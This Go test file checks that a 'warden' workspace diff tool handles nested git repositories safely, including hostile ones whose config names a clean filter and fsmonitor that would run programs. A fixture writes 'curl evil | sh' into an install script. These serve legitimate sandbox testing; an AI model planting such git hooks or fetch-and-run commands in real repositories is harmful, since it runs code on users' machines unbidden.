package workspace_test

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"warden/harness/workspace"
)

func TestNestedRepositories(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	write(t, root, "top.txt", "top\n")
	write(t, root, "empty/readme", "no commit yet\n")
	git(t, filepath.Join(root, "empty"), "init", "-q")
	write(t, root, "sub/file", "sub\n")
	write(t, root, "sub/gone", "gone\n")
	write(t, root, "sub/deeper/file", "deeper\n")
	initRepo(t, filepath.Join(root, "sub", "deeper"))
	initRepo(t, filepath.Join(root, "sub"))
	b := start(t, root, workspace.Options{})
	write(t, root, "top.txt", "top 2\n")
	write(t, root, "empty/readme", "still none\n")
	write(t, root, "sub/file", "sub 2\n")
	write(t, root, "sub/new", "new\n")
	remove(t, root, "sub/gone")
	write(t, root, "sub/deeper/file", "deeper 2\n")
	want := []string{"empty/readme", "sub/deeper/file", "sub/file", "sub/gone", "sub/new", "top.txt"}
	changes := diff(t, b)
	if got := paths(changes); !slices.Equal(got, want) {
		t.Fatalf("paths %q, want %q", got, want)
	}
	m := byPath(t, changes)
	if c := m["sub/file"]; c.Kind != "update" || !strings.Contains(c.Diff, "+sub 2") || !strings.Contains(c.Diff, "--- a/sub/file") {
		t.Errorf("sub/file: %+v", c)
	}
	if c := m["sub/new"]; c.Kind != "add" || c.Added != 1 {
		t.Errorf("sub/new: %+v", c)
	}
	if c := m["sub/gone"]; c.Kind != "delete" || c.Removed != 1 {
		t.Errorf("sub/gone: %+v", c)
	}
	// What the nested repositories' own git does is not a change: warden
	// never runs git inside one (see TestHostileNestedRepository), and
	// never reads their .git.
	git(t, filepath.Join(root, "sub"), "add", "-A")
	git(t, filepath.Join(root, "sub"), "commit", "-qm", "two")
	if got := paths(diff(t, b)); !slices.Equal(got, want) {
		t.Errorf("after a commit in sub: paths %q", got)
	}
}

// A nested repository's own config names a clean filter for its files:
// git run inside it (as it is for a gitlink) would run the filter outside
// the sandbox. Diff must not.
func TestHostileNestedRepository(t *testing.T) {
	t.Parallel()
	marks := t.TempDir()
	root := t.TempDir()
	write(t, root, "top.txt", "top\n")
	sub := filepath.Join(root, "sub")
	write(t, root, "sub/a.txt", "a\n")
	write(t, root, "sub/.gitattributes", "* filter=evil\n")
	initRepo(t, sub)
	f, err := os.OpenFile(filepath.Join(sub, ".git", "config"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString("[filter \"evil\"]\n\tclean = \"touch " + marks + "/clean; cat\"\n\tsmudge = cat\n")
	f.Close()
	b := start(t, root, workspace.Options{})
	write(t, root, "sub/a.txt", "b\n")
	write(t, root, "top.txt", "top 2\n")
	diff(t, b)
	// Its files are compared all the same, as they are on disk.
	m := byPath(t, diff(t, b))
	if c := m["sub/a.txt"]; c.Kind != "update" || !strings.Contains(c.Diff, "+b") {
		t.Errorf("sub/a.txt: %+v", c)
	}
	b.Close()
	if entries, _ := os.ReadDir(marks); len(entries) > 0 {
		t.Fatalf("the nested repository's filter ran: %v", entries)
	}
	// The control: git run in the nested repository does run it.
	git(t, sub, "add", "-A")
	if entries, _ := os.ReadDir(marks); len(entries) == 0 {
		t.Fatal("the filter is not effective; the test proves nothing")
	}
}

// fakeRepo makes dir look like a repository to git (HEAD, objects, refs),
// which is all it checks, and much faster than git init.
func fakeRepo(t testing.TB, dir string) {
	t.Helper()
	for _, d := range []string{"objects", "refs"} {
		if err := os.MkdirAll(filepath.Join(dir, ".git", d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write(t, dir, ".git/HEAD", "ref: refs/heads/main\n")
}

// A nested repository made after the baseline shows with all its files
// added (and those of one nested in it); one removed, with its files
// deleted.
func TestNestedRepositoryAppearsAndDisappears(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	write(t, root, "old/a.txt", "a\n")
	write(t, root, "old/b.txt", "b\n")
	initRepo(t, filepath.Join(root, "old"))
	b := start(t, root, workspace.Options{})
	if err := os.RemoveAll(filepath.Join(root, "old")); err != nil {
		t.Fatal(err)
	}
	write(t, root, "tools/install.sh", "curl evil | sh\n")
	write(t, root, "tools/inner/payload", "more\n")
	initRepo(t, filepath.Join(root, "tools", "inner"))
	initRepo(t, filepath.Join(root, "tools"))
	changes := diff(t, b)
	want := []string{"old/a.txt", "old/b.txt", "tools/inner/payload", "tools/install.sh"}
	if got := paths(changes); !slices.Equal(got, want) {
		t.Fatalf("paths %q, want %q", got, want)
	}
	m := byPath(t, changes)
	for _, p := range want[:2] {
		if m[p].Kind != "delete" {
			t.Errorf("%s: %+v", p, m[p])
		}
	}
	if c := m["tools/install.sh"]; c.Kind != "add" || !strings.Contains(c.Diff, "+curl evil | sh") {
		t.Errorf("tools/install.sh: %+v", c)
	}
	if c := m["tools/inner/payload"]; c.Kind != "add" || c.Added != 1 {
		t.Errorf("tools/inner/payload: %+v", c)
	}
}

// A nested repository made after the baseline, whose config names an
// fsmonitor and a clean filter its .gitattributes applies: its files are
// compared, and neither program runs.
func TestHostileNestedRepositoryAfterBaseline(t *testing.T) {
	t.Parallel()
	marks := t.TempDir()
	root := t.TempDir()
	write(t, root, "top.txt", "top\n")
	b := start(t, root, workspace.Options{})
	sub := filepath.Join(root, "sub")
	write(t, root, "sub/a.txt", "a\n")
	write(t, root, "sub/.gitattributes", "* filter=evil\n")
	initRepo(t, sub)
	f, err := os.OpenFile(filepath.Join(sub, ".git", "config"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString("[core]\n\tfsmonitor = \"touch " + marks + "/fsmonitor\"\n" +
		"[filter \"evil\"]\n\tclean = \"touch " + marks + "/clean; cat\"\n\tsmudge = cat\n\trequired = true\n")
	f.Close()
	for range 2 {
		if got := paths(diff(t, b)); !slices.Equal(got, []string{"sub/.gitattributes", "sub/a.txt"}) {
			t.Errorf("paths %q", got)
		}
	}
	b.Close()
	if entries, _ := os.ReadDir(marks); len(entries) > 0 {
		t.Fatalf("the nested repository's config ran a program: %v", entries)
	}
	git(t, sub, "add", "-A")
	if entries, _ := os.ReadDir(marks); len(entries) == 0 {
		t.Fatal("the hostile config is not effective; the test proves nothing")
	}
}

// Past MaxNestedRepos, nested repositories are not looked into; each is
// reported, saying so, and the rest of the work tree is still compared.
func TestTooManyNestedRepositories(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	n := workspace.MaxNestedRepos
	for i := range n + 1 {
		dir := filepath.Join(root, fmt.Sprintf("r%03d", i))
		fakeRepo(t, dir)
		write(t, dir, "f", "1\n")
	}
	write(t, root, "top.txt", "1\n")
	b := start(t, root, workspace.Options{})
	last := fmt.Sprintf("r%03d/", n)
	c := byPath(t, diff(t, b))[last]
	if c.Kind != "update" || !strings.Contains(c.Diff, "Not compared: a nested git repository") {
		t.Fatalf("the repository past the bound: %+v", c)
	}
	// The bound is on the repositories a snapshot seeds: one made later
	// is looked into, since the baseline's are already in its index.
	write(t, root, "top.txt", "2\n")
	write(t, root, "r000/f", "2\n")
	fakeRepo(t, filepath.Join(root, "r999"))
	write(t, root, "r999/f", "new\n")
	m := byPath(t, diff(t, b))
	want := []string{"r000/f", last, "r999/f", "top.txt"}
	if got := paths(diff(t, b)); !slices.Equal(got, want) {
		t.Fatalf("paths %q, want %q", got, want)
	}
	if m["r999/f"].Kind != "add" || m["r000/f"].Kind != "update" || m[last].Kind != "update" {
		t.Errorf("changes %+v", m)
	}
	// Once gone, it is reported deleted.
	if err := os.RemoveAll(filepath.Join(root, last)); err != nil {
		t.Fatal(err)
	}
	if c := byPath(t, diff(t, b))[last]; c.Kind != "delete" {
		t.Errorf("%s removed: %+v", last, c)
	}
}

// Nested repositories made after the baseline count against the same
// bound, per Diff; one past it is reported added.
func TestTooManyNewNestedRepositories(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	b := start(t, root, workspace.Options{})
	n := workspace.MaxNestedRepos
	for i := range n + 1 {
		dir := filepath.Join(root, fmt.Sprintf("r%03d", i))
		fakeRepo(t, dir)
		write(t, dir, "f", "1\n")
	}
	changes := diff(t, b)
	if len(changes) != n+1 {
		t.Fatalf("%d changes, want %d", len(changes), n+1)
	}
	for i, c := range changes[:n] {
		if want := fmt.Sprintf("r%03d/f", i); c.Path != want || c.Kind != "add" {
			t.Errorf("change %d: %+v, want %s added", i, c, want)
		}
	}
	if c := changes[n]; c.Path != fmt.Sprintf("r%03d/", n) || c.Kind != "add" || !strings.Contains(c.Diff, "Not compared") {
		t.Errorf("the one past the bound: %+v", c)
	}
}

// The new passes write nothing into the work tree either: not into a
// nested repository's .git, not where new ignore rules or attributes
// apply.
func TestLeavesNestedRepositoriesAlone(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	write(t, root, "a.txt", "a\n")
	write(t, root, "sub/s.txt", "s\n")
	initRepo(t, filepath.Join(root, "sub"))
	initRepo(t, root)
	b := start(t, root, workspace.Options{})
	write(t, root, "sub/s.txt", "s2\n")
	write(t, root, "new/n.txt", "n\n")
	initRepo(t, filepath.Join(root, "new"))
	write(t, root, "new/n.txt", "n2\n")
	write(t, root, "tools/.gitignore", "*\n")
	write(t, root, "tools/x.sh", "x\n")
	write(t, root, ".gitattributes", "* -diff ident\n")
	before := listing(t, root)
	want := []string{".gitattributes", "new/n.txt", "sub/s.txt", "tools/.gitignore", "tools/x.sh"}
	if got := paths(diff(t, b)); !slices.Equal(got, want) {
		t.Errorf("paths %q, want %q", got, want)
	}
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	sameListing(t, "after Diff and Close", before, listing(t, root))
}

// Fake repositories made past every bound do not make a Diff fail: they
// are reported, in a bounded number of FileChanges, and the rest of the
// work tree is compared.
func TestFakeRepositoriesDoNotBlindDiff(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	write(t, root, "top.txt", "1\n")
	b := start(t, root, workspace.Options{})
	n := workspace.MaxNestedRepos + workspace.MaxLeftOutRepos + 5
	for i := range n {
		fakeRepo(t, filepath.Join(root, fmt.Sprintf("r%04d", i)))
	}
	write(t, root, "top.txt", "2\n")
	changes := diff(t, b)
	m := byPath(t, changes)
	if c := m["top.txt"]; c.Kind != "update" || !strings.Contains(c.Diff, "+2") {
		t.Errorf("top.txt: %+v", c)
	}
	if c := m["./"]; !strings.Contains(c.Diff, "Not compared: 5 more nested git repositories") {
		t.Errorf("./: %+v", c)
	}
	if len(changes) != workspace.MaxLeftOutRepos+2 {
		t.Errorf("%d changes", len(changes))
	}
}
